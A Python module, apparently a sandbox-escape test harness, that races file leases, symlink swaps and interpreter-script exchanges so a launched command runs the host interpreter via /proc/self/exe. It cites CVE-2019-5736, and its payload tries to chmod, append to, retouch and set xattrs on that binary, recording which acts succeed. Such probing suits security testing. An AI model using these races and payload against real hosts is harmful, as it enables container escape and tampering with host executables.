"""Ways in which a command in the background has the host's interpreter run by another command of its fork.

Until its exec a command's process is a clone of the launcher, and ``/proc/self/exe`` is the host's interpreter. The one
in the background works on ``SCRIPT``, which the host then starts; that one runs ``PAY`` if a way is open.
"""

from __future__ import annotations

import fcntl
import os
import select
import signal
from collections.abc import Callable
from typing import NamedTuple

SCRIPT = "./script.sh"
"""The command that the host starts, with ``pay.py`` as its argument."""
_GOOD, _BAD = "#!/bin/true\n", "#!/proc/self/exe pay.py\n"
PLANTED = b"PLANTED"
PAY = f"""\
import json, os
exe = "/proc/self/exe"
held = os.open(exe, os.O_RDONLY)
acts = {{
    "mode": lambda: os.fchmod(held, 0o777),
    "mode by the link": lambda: os.chmod(exe, 0o777),
    "content": lambda: os.write(os.open(exe, os.O_WRONLY | os.O_APPEND), {PLANTED!r}),
    "content, opened again": lambda: os.write(os.open(f"/proc/self/fd/{{held}}", os.O_RDWR | os.O_APPEND), {PLANTED!r}),
    "time": lambda: os.utime(held, (1, 1)),
    "attribute": lambda: os.setxattr(held, "user.planted", {PLANTED!r}),
}}
told = {{}}
for name, act in acts.items():
    try:
        act()
        told[name] = 0
    except OSError as error:
        told[name] = error.errno
print(json.dumps({{"ran": os.fstat(held).st_ino, "told": told}}), flush=True)
"""
"""Prints the number of the file that it is run by, and the error of each act; 0: it was permitted."""


class Way(NamedTuple):
    name: str
    tries: str
    source: str
    files: dict[str, str]
    act: Callable[[], None]
    """Never returns."""
    times: int
    """How often the command is started meanwhile."""


def lease() -> None:
    """Whoever opens the script without waiting is told EAGAIN; execve(2) waits for the end of the lease."""
    held = os.open(SCRIPT, os.O_RDONLY)
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGIO])
    while True:
        try:
            fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        except OSError:  # it is open still
            select.select([], [], [], 0.01)
            continue
        signal.sigwait([signal.SIGIO])
        select.select([], [], [], 0.1)
        fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_UNLCK)


def swap() -> None:
    while True:
        os.symlink("/proc/self/exe", "new")
        os.rename("new", SCRIPT)
        os.link("good.sh", "new")
        os.rename("new", SCRIPT)


def exchange_second() -> None:
    while True:
        for name in ("bad.sh", "good.sh"):
            os.link(name, "new")
            os.rename("new", "second.sh")


OVERTAKINGS: dict[str, Way] = {
    way.name: way
    for way in (
        Way("lease_interpreter", "a script of the host's interpreter is under a lease when it is looked at",
            "fcntl(2), F_SETLEASE", {SCRIPT: _BAD}, lease, 2),
        Way("swap_interpreter", "a program becomes a link to the host's interpreter after the look",
            "CVE-2019-5736", {"good.sh": _GOOD, SCRIPT: _GOOD}, swap, 15),
        Way("script_of_script", "the interpreter of a script becomes a script of the host's interpreter after the look",
            "execve(2), interpreter scripts", {"good.sh": _GOOD, "bad.sh": _BAD, "second.sh": _GOOD,
                                               SCRIPT: "#!./second.sh\n"}, exchange_second, 15),
    )
}  # fmt: skip


def furnish(name: str) -> None:
    """Make the files of a way in the current directory."""
    files = {"pay.py": PAY, **OVERTAKINGS[name].files}
    for path in ("new", *files):
        if os.path.lexists(path):
            os.unlink(path)  # of another way, and perhaps a link
    for path, text in files.items():
        with open(path, "w") as stream:
            stream.write(text)
        os.chmod(path, 0o755)
